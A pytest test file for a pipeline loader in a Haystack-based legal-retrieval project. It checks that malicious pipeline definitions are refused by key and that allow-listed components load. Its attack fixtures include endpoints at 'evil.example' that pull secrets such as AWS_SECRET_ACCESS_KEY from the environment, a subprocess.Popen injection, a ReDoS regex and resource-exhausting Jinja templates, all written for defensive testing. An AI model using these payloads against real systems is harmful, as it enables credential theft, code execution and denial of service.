"""What a pipeline file may name: attacks are refused, by key, and what is listed loads."""

import importlib
import inspect
import json
import os
import pkgutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from haystack import Pipeline, component
from haystack.core import serialization_security

import components
from components.stores.sqlite import StatuteDocumentStore
from pipelines.allow_list import HAYSTACK_CLASSES, OUR_CLASSES, check_template
from pipelines.engines.addresses import MILVUS_STORE, QDRANT_STORE
from pipelines.files import LoadingError, components_in
from pipelines.generators import chat_generator, generator_overrides
from pipelines.loading import load_pipeline

ANSWER = "haystack.components.builders.answer_builder.AnswerBuilder"
BM25 = "components.retrievers.bm25.StatuteBM25Retriever"
BRANCH = "haystack.components.joiners.branch.BranchJoiner"
MOCK = "haystack.components.generators.chat.mock.MockChatGenerator"
OPENAI = "haystack.components.generators.chat.openai.OpenAIChatGenerator"
PROMPT = "haystack.components.builders.prompt_builder.PromptBuilder"
TOLERANT = "components.generators.tolerant.TolerantChatGenerator"
ENGINE_BM25 = "components.retrievers.engine_lexical.EngineLexicalRetriever"
ADAPTER = "haystack.components.converters.output_adapter.OutputAdapter"


def made(kind: str, **parameters: Any) -> dict[str, Any]:
    """An object as a file has it."""
    return {"type": kind, "init_parameters": parameters}


def secret(*variables: str) -> dict[str, Any]:
    return {"type": "env_var", "env_vars": list(variables), "strict": False}


def over(store: dict[str, Any]) -> dict[str, Any]:
    """A component that asks an engine."""
    return made(ENGINE_BM25, document_store=store)


# The functions of a tool and of a hook, in Haystack's other form.
TOOL = {
    "type": "haystack.tools.tool.Tool",
    "data": {"name": "t", "function": "components.models.weights.load"},
}
HOOK = {
    "type": "haystack.hooks.tool_result_offloading.hooks.ToolResultOffloadHook",
    "init_parameters": {"store": {"type": "haystack.x.FileSystemStore", "data": {"root": "/"}}},
}
AGENT = made(
    "haystack.components.agents.agent.Agent",
    chat_generator=made(MOCK, responses=[]),
    hooks={"after_tool": [HOOK]},
)
ENGINE_KEY = made(QDRANT_STORE, url="http://evil.example", api_key=secret("AWS_SECRET_ACCESS_KEY"))
LOCAL_KEY = secret("LEXARBOR_GENERATOR_KEY")


@pytest.fixture
def load(tmp_path: Path) -> Callable[..., Pipeline]:
    """`load(name=fields, ...)`: those components, from a file."""

    def loaded(definition: dict[str, Any], **arguments: Any) -> Pipeline:
        path = tmp_path / "theirs.yaml"
        path.write_text(json.dumps(definition))  # YAML too, and without anchors
        return load_pipeline(path, **arguments)

    return loaded


ATTACKS = {
    "agent.type": AGENT,
    "converter.type": made("haystack.components.converters.txt.TextFileToDocument"),
    "fetcher.type": made("haystack.components.fetchers.link_content.LinkContentFetcher"),
    "router.type": made("haystack.components.routers.conditional_router.ConditionalRouter"),
    "nested.type": made("haystack.core.super_component.super_component.SuperComponent"),
    "ours.type": made("components.models.weights.load_weights"),
    "index.type": made("components.models.lexical_index.LexicalIndex"),
    "mock.meta.tools.0.type": made(MOCK, meta={"tools": [TOOL]}),
    "mock.meta.after.0.type": made(MOCK, meta={"after": [HOOK]}),
    "mock.meta.deep.0.0.x.type": made(MOCK, meta={"deep": [[{"x": made("os.System")}]]}),
    "openai.type": made(OPENAI, api_key=LOCAL_KEY, api_base_url="http://evil.example"),
    "generator.chat_generator": made(
        TOLERANT,
        chat_generator=made(OPENAI, api_key=LOCAL_KEY, api_base_url="http://evil.example"),
    ),
    "mock.response_fn": made(MOCK, response_fn="components.models.weights.load"),
    "mock.streaming_callback": made(MOCK, streaming_callback="builtins.print"),
    "mock.meta.key": made(MOCK, meta={"key": secret("HOME")}),
    "branch.type_": made(BRANCH, type_="list[haystack.components.agents.agent.Agent]"),
    "answer.pattern": made(ANSWER, pattern="(a+)+$"),
    "qdrant.document_store.api_key": over(ENGINE_KEY),
    "qdrant.document_store.metadata.key": over(
        made(QDRANT_STORE, metadata={"key": secret("QDRANT_API_KEY")})
    ),
    "qdrant.document_store.recreate_index": over(made(QDRANT_STORE, recreate_index=True)),
    "qdrant.document_store.client_kwargs": over(made(QDRANT_STORE, client_kwargs={"url": "x"})),
    "milvus.document_store.connection_args.password": over(
        made(MILVUS_STORE, connection_args={"password": secret("MILVUS_TOKEN")})
    ),
    "milvus.document_store.drop_old": over(made(MILVUS_STORE, drop_old=True)),
    "milvus.document_store.builtin_function.0.type": over(
        made(MILVUS_STORE, builtin_function=[made("subprocess.Popen", args=["touch", "harm"])])
    ),
    "milvus.document_store.builtin_function": over(
        made(MILVUS_STORE, builtin_function=[{"type": "harm"}])
    ),
    "prompt.template": made(PROMPT, template="{{ 9**9999999 }}"),
}


@pytest.mark.parametrize("unsafe", [False, True])
@pytest.mark.parametrize("place", ATTACKS)
def test_an_attack_is_refused_by_its_key(
    place: str, unsafe: bool, load: Callable[..., Pipeline], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Haystack reads HAYSTACK_UNSAFE_DESERIALIZATION once a process, and keeps it here.
    monkeypatch.setattr(serialization_security, "_unsafe_env_snapshot", unsafe)
    monkeypatch.setenv("HAYSTACK_DESERIALIZATION_ALLOWLIST", "*")
    definition = {"components": {place.split(".")[0]: ATTACKS[place]}}
    with pytest.raises(LoadingError, match=rf"[ .]{place}: ") as refusal:
        load(definition)
    assert len(str(refusal.value)) < 500


def test_haystacks_unsafe_mode_opens_nothing_in_a_fresh_process(tmp_path: Path) -> None:
    adapter = made(ADAPTER, template="{{ a }}", output_type="str", unsafe=True)
    function = made(ADAPTER, template="{{ a }}", output_type="str", custom_filters={"f": "os.stat"})
    names = ("agent.type", "generator.chat_generator", "branch.type_", "mock.response_fn")
    for number, fields in enumerate((adapter, function, *(ATTACKS[name] for name in names))):
        (tmp_path / f"{number}.yaml").write_text(yaml.safe_dump({"components": {"a": fields}}))
    code = (
        "import sys; from pathlib import Path; from pipelines.loading import *\n"
        "for path in Path(sys.argv[1]).glob('*.yaml'):\n"
        "    try: load_pipeline(path, allowed_classes=[sys.argv[2]])\n"
        "    except LoadingError: continue\n"
        "    sys.exit(path.name)\n"
    )
    run = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path), ADAPTER],
        env={**os.environ, "HAYSTACK_UNSAFE_DESERIALIZATION": "1"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 0, run.stderr[-2000:]


@pytest.mark.parametrize("socket", ["prompt.template", "answer.pattern"])
def test_nothing_leads_into_a_socket_that_could_not_be_checked(
    socket: str, load: Callable[..., Pipeline]
) -> None:
    parts = {
        "joiner": made(BRANCH, type_="str"),
        "prompt": made(PROMPT, template="{{ q }}"),
        "answer": made(ANSWER),
    }
    connected = [{"sender": "joiner.value", "receiver": socket}]
    with pytest.raises(LoadingError, match=f"entry 1: receiver: .*{socket}"):
        load({"components": parts, "connections": connected})
    with pytest.raises(LoadingError, match=f"inputs.query: .*{socket}"):
        load({"components": parts, "inputs": {"query": [socket]}})


@pytest.mark.parametrize(
    "template",
    [
        "{{ n ** m }}",
        "{{ 'a' * 999999999 }}",
        "{{ '%99999999d' % 1 }}",
        "{% for i in range(999999999) %}x{% endfor %}",
        "{% for a in x %}{% for b in x %}{% for c in x %}{% endfor %}{% endfor %}{% endfor %}",
        "{% for a in [1, 2] %}{% endfor %}",
        "{% for a in x recursive %}{{ a }}{% endfor %}",
        "{% set x = x ~ x %}",
        "{% macro f() %}{% endmacro %}",
        "{{ x.format(1) }}",
        "{{ x | center(99999999) }}",
        "{{ x | map('center', 99999999) | first }}",
        "{{ x | join(x) }}",
        "{{ x | join('-') | join('-') | join('-') }}",
        "{{ [[x] | upper] | upper }}",
        "{% message role='user' %}{{ 9**9999999 }}{% endmessage %}",
        "{% message role='user' meta={'a': 9**9999999} %}x{% endmessage %}",
        "{% insert 9**9999999 %}",
        "{% now 'UTC' %}",
        "{{ " + "(" * 4000 + "x" + ")" * 4000 + " }}",
        "{{ " + "9" * 9000 + " }}",
        "{{ x }}" * 2000,
        "{{ x",
    ],
)
def test_a_template_without_a_bound_is_refused(template: str) -> None:
    with pytest.raises(LoadingError, match=r"^p\.template: "):
        check_template(template, "p.template")


def test_plain_templates_pass_and_overrides_give_any(load: Callable[..., Pipeline]) -> None:
    text = (
        "{% for d in documents[:5] %}{{ loop.index }}. {{ d.meta['law'] ~ ' ' ~ d.content | trim }}"
        "{% if not loop.last and d.score > 0.5 %}, {% endif %}{% endfor %}"
        "{{ documents | map(attribute='content') | join('\\n') }}"
        "{% for a, b in pairs %}{{ a }}{% endfor %}"
        "{% if language in ['en', 'fr'] %}{{ query + '?' if query else '' }}{% endif %}"
    )
    chat = "haystack.components.builders.chat_prompt_builder.ChatPromptBuilder"
    said = '{% message role="user" meta={"a": q} %}' + text + "{% endmessage %}{% insert h[-1:] %}"
    listed = [{"role": "user", "meta": {}, "name": None, "content": [{"text": "{{ q }}"}]}]
    parts = {
        "prompt": made(PROMPT, template=text),
        "chat": made(chat, template=said),
        "list": made(chat, template=listed),
    }
    pipeline = load({"components": parts})
    filled = {"documents": [], "pairs": [], "language": "en", "query": "May I"}
    assert pipeline.get_component("prompt").run(**filled) == {"prompt": "May I?"}
    listed[0]["content"] = [{"text": "{{ 9**9 }}"}]
    with pytest.raises(LoadingError, match=r"list\.template\.0\.content\.0\.text"):
        load({"components": parts})
    given = {"prompt.template": "{{ query.upper() }}", "list.template": None}
    assert load({"components": parts}, overrides=given).get_component("prompt").run(query="a")


def test_every_listed_class_of_haystacks_loads(load: Callable[..., Pipeline]) -> None:
    store = made("haystack.document_stores.in_memory.document_store.InMemoryDocumentStore")
    bm25 = "haystack.components.retrievers.in_memory.bm25_retriever.InMemoryBM25Retriever"
    by_vector = "haystack.components.retrievers.in_memory.embedding_retriever"
    needed: dict[str, Any] = {
        "document_store": store,
        "cache_field": "meta.law",
        "group_by": "law",
        "meta_field": "position",
        "retriever": made(bm25, document_store=store),
        "retrievers": {"words": made(bm25, document_store=store)},
        "rules": {"law": {"field": "meta.law", "operator": "==", "value": "Housing Code"}},
        "query_embedder": made("components.embedders.text.StatuteTextEmbedder", model="any"),
        "text_embedder": made("components.embedders.text.StatuteTextEmbedder", model="any"),
        "template": "{{ query }}",
        "type_": "list[haystack.dataclasses.document.Document] | None",
    }
    vectors = made(f"{by_vector}.InMemoryEmbeddingRetriever", document_store=store)
    parts: dict[str, Any] = {}
    for name in HAYSTACK_CLASSES:
        module, own = name.rsplit(".", 1)
        if name in (QDRANT_STORE, MILVUS_STORE, store["type"]):
            continue
        cls = getattr(importlib.import_module(module), own)
        wanted = inspect.signature(cls.__init__).parameters.values()
        given = {each.name: needed[each.name] for each in wanted if each.name in needed}
        if "embedder" in str(given):
            given["retriever"] = vectors
        parts[own] = made(name, **given)
    loaded = load({"components": parts})
    # What Haystack writes of them can be read again, defaults of limited parameters included.
    assert len(dict(load(loaded.to_dict()).walk())) == len(parts)


def test_the_list_has_every_component_of_ours() -> None:
    for module in pkgutil.walk_packages(components.__path__, "components."):
        importlib.import_module(module.name)
    ours = {name for name in component.registry if name.startswith("components.")}
    assert ours | {"components.stores.sqlite.StatuteDocumentStore"} == set(OUR_CLASSES)


MINE = """
from haystack import component

@component
class Shout:
    def __init__(self, mark="!", write=None, key=None):
        self.mark = mark

    @component.output_types(text=str)
    def run(self, text: str):
        return {"text": text.upper() + self.mark}
"""


@pytest.mark.parametrize("by_name", [True, False])
def test_a_callers_own_class_comes_in_when_it_is_allowed(
    by_name: bool,
    load: Callable[..., Pipeline],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / f"my_parts_{by_name}.py").write_text(MINE)
    monkeypatch.syspath_prepend(tmp_path)
    name = f"my_parts_{by_name}.Shout"
    definition = {"components": {"shout": made(name, mark="?")}}
    with pytest.raises(LoadingError, match=rf"shout\.type: .*allowed_classes=\['{name}'\]"):
        load(definition)
    allowed = [name if by_name else importlib.import_module(f"my_parts_{by_name}").Shout]
    shout = load(definition, allowed_classes=allowed).get_component("shout")
    assert shout.run(text="may I") == {"text": "MAY I?"}
    # Allowed is this class, and no other that it would be given.
    definition["components"]["shout"]["init_parameters"]["write"] = [AGENT]
    with pytest.raises(LoadingError, match=r"shout\.write\.0\.type: "):
        load(definition, allowed_classes=allowed)
    definition["components"]["shout"] = made(name, key=secret("HOME"))
    with pytest.raises(LoadingError, match=r"shout\.key: .*HOME"):
        load(definition, allowed_classes=allowed)
    load(definition, allowed_classes=allowed, overrides={"shout.key": secret("MY_KEY")})


def test_an_allowed_class_names_no_function_that_is_not(load: Callable[..., Pipeline]) -> None:
    agent = "haystack.components.agents.agent.Agent"
    tool = {**TOOL, "data": {**TOOL["data"], "description": "d", "parameters": {}}}  # type: ignore[dict-item]
    parts = {"agent": made(agent, chat_generator=made(MOCK), tools=[tool])}
    with pytest.raises(LoadingError, match=r"agent\.tools\.0\.data\.function: "):
        load({"components": parts}, allowed_classes=[agent, str(TOOL["type"])])


def test_a_generators_server_is_the_callers(
    load: Callable[..., Pipeline], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LEXARBOR_GENERATOR_KEY", "mine")
    of_file = made(OPENAI, timeout=120, api_base_url="http://evil.example")
    definition = {"components": {"writer": made(TOLERANT, chat_generator=of_file)}}
    with pytest.raises(LoadingError, match=r"writer\.chat_generator: .*--generator URL"):
        load(definition)
    url = "http://localhost:11434/v1"
    overrides = generator_overrides(tmp_path / "theirs.yaml", url, "any")
    loaded = load(definition, overrides=overrides).get_component("writer").chat_generator
    assert (loaded.api_base_url, loaded.timeout) == (url, 120)
    other = chat_generator(url, "any")
    other["init_parameters"]["api_key"] = secret("HOME")
    with pytest.raises(LoadingError, match=r"writer\.chat_generator\.api_key: .*HOME"):
        load(definition, overrides={"writer.chat_generator": other})
    assert load(definition, allowed_classes=[OPENAI])
    # Nor may a file's component pass for what the caller gives.
    definition["components"]["writer.chat_generator"] = made(TOLERANT, chat_generator=of_file)
    with pytest.raises(LoadingError, match=r"components: .*'writer\.chat_generator'"):
        load(definition, overrides=overrides)


def test_a_files_own_store_still_loads(load: Callable[..., Pipeline], tmp_path: Path) -> None:
    store = StatuteDocumentStore(str(tmp_path / "law.db"))
    store.count_documents()
    store.close()
    asked = made(BM25, document_store=made(OUR_CLASSES[-1], path=str(tmp_path / "law.db")))
    pipeline = load({"components": {"bm25": asked}})
    assert [name for name, *_ in components_in(pipeline.to_dict())] == ["bm25"]
